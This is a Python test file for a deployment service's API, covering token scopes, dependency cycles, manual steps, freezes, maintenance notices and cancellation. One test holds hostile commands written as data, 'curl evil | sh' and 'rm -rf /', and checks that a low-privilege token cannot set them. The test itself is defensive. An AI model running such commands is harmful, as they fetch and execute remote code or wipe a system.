"""The deploy API in-process: who may define commands, manual steps, freezes, public notices."""

from __future__ import annotations

import os
import socket
import time
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

from tests.support import ADMIN_TOKEN, WAIT
from trimtab.domain.releases import runs
from trimtab.runner.local import LocalRunner
from trimtab.server.app import create_app
from trimtab.settings import Settings
from trimtab.store.db import Store


def _token(client: TestClient, scope: str) -> dict[str, str]:
    body = {"name": f"ci-{scope}", "scopes": [scope], "project": "shop"}
    created = client.post("/api/v1/tokens", json=body).json()
    return {"Authorization": f"Bearer {created['token']}"}


def _shop(client: TestClient) -> None:
    assert client.post("/api/v1/projects", json={"slug": "shop"}).status_code == 201
    for body in (
        {"name": "billing-api", "command": "echo {service} {version}"},
        {"name": "pay-library", "manual": True},
        {"name": "web-front", "command": "true", "depends_on": ["billing-api", "pay-library"]},
    ):
        assert client.post("/api/v1/projects/shop/services", json=body).status_code == 201


def _wait_run(client: TestClient, run_id: int, state: str) -> dict[str, Any]:
    deadline = time.monotonic() + WAIT
    while True:
        run = client.get(f"/api/v1/projects/shop/runs/{run_id}").json()
        if run["state"] == state:
            return dict(run)
        assert time.monotonic() < deadline, run
        time.sleep(0.05)


def test_service_command__deploy_token__refused_create_and_update(client: TestClient) -> None:
    _shop(client)
    deploy = _token(client, "deploy")
    created = client.post(
        "/api/v1/projects/shop/services",
        json={"name": "mailer", "command": "curl evil | sh"},
        headers=deploy,
    )
    assert created.status_code == 403
    changed = client.patch(
        "/api/v1/projects/shop/services/billing-api", json={"command": "rm -rf /"}, headers=deploy
    )
    assert changed.status_code == 403
    allowed = client.patch(
        "/api/v1/projects/shop/services/web-front", json={"downtime": True}, headers=deploy
    )
    assert allowed.status_code == 200 and allowed.json()["downtime"] is True
    assert client.get("/api/v1/projects/shop/services/billing-api").json()["command"] == (
        "echo {service} {version}"
    )


def test_service_dependencies__cycle__refused_naming_it(client: TestClient) -> None:
    _shop(client)
    refused = client.patch(
        "/api/v1/projects/shop/services/billing-api", json={"depends_on": ["web-front"]}
    )
    assert refused.status_code == 422
    assert "billing-api -> web-front -> billing-api" in refused.json()["detail"]


def test_release_deploy__manual_step__waits_for_confirm_then_next_wave(client: TestClient) -> None:
    _shop(client)
    services = {"billing-api": "1.8.0", "pay-library": "4.2.0", "web-front": "2.3.0"}
    body = {"version": "shop@2.3.0", "services": services}
    assert client.post("/api/v1/projects/shop/releases", json=body).status_code == 201
    started = client.post(
        "/api/v1/projects/shop/runs", json={"release": "shop@2.3.0", "environment": "production"}
    )
    assert started.status_code == 202
    run = _wait_run(client, started.json()["id"], "waiting_confirm")
    results = {s["service"]: s["result"] for s in run["steps"]}
    assert results == {
        "billing-api": "success",
        "pay-library": "waiting_confirm",
        "web-front": "pending",
    }
    confirmed = client.post(
        f"/api/v1/projects/shop/runs/{run['id']}/confirm", json={"note": "payments team: done"}
    )
    assert confirmed.status_code == 200
    done = _wait_run(client, run["id"], "success")
    assert [s["result"] for s in done["steps"]] == ["success"] * 3
    release = client.get("/api/v1/projects/shop/releases/shop@2.3.0").json()
    assert release["windows"][0]["environment"] == "production"


def test_deploy_start__active_freeze__refused_409_naming_it(client: TestClient) -> None:
    _shop(client)
    body = {"version": "shop@1.0", "services": {"web-front": "1.0"}}
    client.post("/api/v1/projects/shop/releases", json=body)
    freeze = {
        "name": "year-end",
        "reason": "holidays",
        "start": "2000-01-01T00:00:00Z",
        "end": "2999-01-01T00:00:00Z",
    }
    assert client.post("/api/v1/projects/shop/freezes", json=freeze).status_code == 201
    refused = client.post(
        "/api/v1/projects/shop/runs", json={"release": "shop@1.0", "environment": "staging"}
    )
    assert refused.status_code == 409
    assert refused.json()["error"] == "deploy_refused"
    assert "freeze 'year-end' (holidays)" in refused.json()["detail"]
    blank = client.post(
        "/api/v1/projects/shop/runs",
        json={"release": "shop@1.0", "environment": "staging", "override": True, "reason": " "},
    )
    assert blank.status_code == 422


def test_public_maintenance__no_token__state_scheduled_ahead_and_cors(
    client: TestClient, anon_client: TestClient
) -> None:
    _shop(client)
    ahead = datetime.now(UTC) + timedelta(days=2)
    on = client.post(
        "/api/v1/projects/shop/maintenance/production",
        json={"message": "Back at 15:00 KST", "starts_at": ahead.isoformat()},
    )
    assert on.status_code == 201
    public = anon_client.get("/api/v1/maintenance/shop/production")
    assert public.status_code == 200
    assert public.headers["access-control-allow-origin"] == "*"
    state = public.json()
    assert state["active"] is False
    assert [n["message"] for n in state["scheduled"]] == ["Back at 15:00 KST"]
    assert anon_client.get("/api/v1/maintenance/nope/production").json()["active"] is False
    script = anon_client.get("/sdk/notice.js")
    assert script.status_code == 200 and "data-project" in script.text
    assert "application/javascript" in script.headers["content-type"]


def test_public_maintenance__unknown_project__answers_no_notice_and_nothing_more(
    anon_client: TestClient,
) -> None:
    unknown = anon_client.get("/api/v1/maintenance/nope/production")
    assert unknown.status_code == 200
    assert unknown.json() == {
        "project": "nope",
        "environment": "production",
        "active": False,
        "scheduled": [],
    }


def test_freeze_summary__cron_or_dated__sends_only_the_keys_of_its_form(
    client: TestClient,
) -> None:
    _shop(client)
    weekly = {"name": "fri", "cron": "0 16 * * 5", "duration": "62h", "timezone": "Asia/Seoul"}
    cron = client.post("/api/v1/projects/shop/freezes", json=weekly).json()
    assert cron["cron"] == "0 16 * * 5" and cron["duration"] == "62h"
    assert "start" not in cron and "end" not in cron
    once = {"name": "x", "start": "2999-12-20T00:00:00+02:00", "end": "2999-12-27T00:00:00"}
    dated = client.post("/api/v1/projects/shop/freezes", json=once).json()
    assert (dated["start"], dated["end"]) == (
        "2999-12-19T22:00:00+00:00",
        "2999-12-27T00:00:00+00:00",
    )
    assert "cron" not in dated and "duration" not in dated
    listed = client.get("/api/v1/projects/shop/freezes").json()["freezes"]
    assert listed == [cron, dated]


def _release_of_sleeper(client: TestClient, pidfile: str) -> int:
    assert client.post("/api/v1/projects", json={"slug": "shop"}).status_code == 201
    # `exec` makes the shell become `sleep`, so the pid written is the command's own.
    body = {"name": "migrator", "command": f"echo $$ > {pidfile}; exec sleep 30"}
    assert client.post("/api/v1/projects/shop/services", json=body).status_code == 201
    release = {"version": "shop@1.0.0", "services": {"migrator": "1.0.0"}}
    assert client.post("/api/v1/projects/shop/releases", json=release).status_code == 201
    started = client.post(
        "/api/v1/projects/shop/runs", json={"release": "shop@1.0.0", "environment": "staging"}
    )
    assert started.status_code == 202, started.text
    return int(started.json()["id"])


def _alive(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_deploy_cancel__running_step__command_killed_run_cancelled_and_audited(
    client: TestClient, tmp_path: Path
) -> None:
    pidfile = tmp_path / "pid"
    run_id = _release_of_sleeper(client, str(pidfile))
    deadline = time.monotonic() + WAIT
    while not (pidfile.exists() and pidfile.read_text().strip()):
        assert time.monotonic() < deadline, "the step never started"
        time.sleep(0.05)
    pid = int(pidfile.read_text())
    assert _alive(pid)

    missing_reason = client.post(
        f"/api/v1/projects/shop/runs/{run_id}/cancel", json={"reason": " "}
    )
    assert missing_reason.status_code == 422
    cancelled = client.post(
        f"/api/v1/projects/shop/runs/{run_id}/cancel", json={"reason": "wrong migration"}
    )
    assert cancelled.status_code == 200, cancelled.text
    run = cancelled.json()
    assert run["state"] == "cancelled"
    assert [s["result"] for s in run["steps"]] == ["cancelled"]
    deadline = time.monotonic() + WAIT
    while _alive(pid):
        assert time.monotonic() < deadline, "the cancelled command is still running"
        time.sleep(0.05)
    entry = client.get("/api/v1/audit", params={"action": "deploy.cancel"}).json()[0]
    assert entry["reason"] == "wrong migration" and entry["target_id"] == str(run_id)
    again = client.post(f"/api/v1/projects/shop/runs/{run_id}/cancel", json={"reason": "again"})
    assert again.status_code == 409


def test_runner_start__step_left_running_by_a_dead_server__failed_as_interrupted(
    settings: Settings, store: Store, tmp_path: Path
) -> None:
    app = create_app(replace(settings, runner_enabled=False), store=store)
    with TestClient(app, headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}) as client:
        run_id = _release_of_sleeper(client, str(tmp_path / "pid"))
        dead = f"local:{socket.gethostname()}:{2**22 + 12345}"  # above pid_max: never alive
        with store.write() as session:
            ticket = runs.claim_next_step(session, dead)
        assert ticket is not None
        assert client.get(f"/api/v1/projects/shop/runs/{run_id}").json()["state"] == "running"

        assert LocalRunner(store, settings).recover() == [ticket.deploy_id]

        run = client.get(f"/api/v1/projects/shop/runs/{run_id}").json()
        assert run["state"] == "failed"
        [step] = run["steps"]
        assert step["result"] == "failed" and "interrupted" in step["output_tail"]
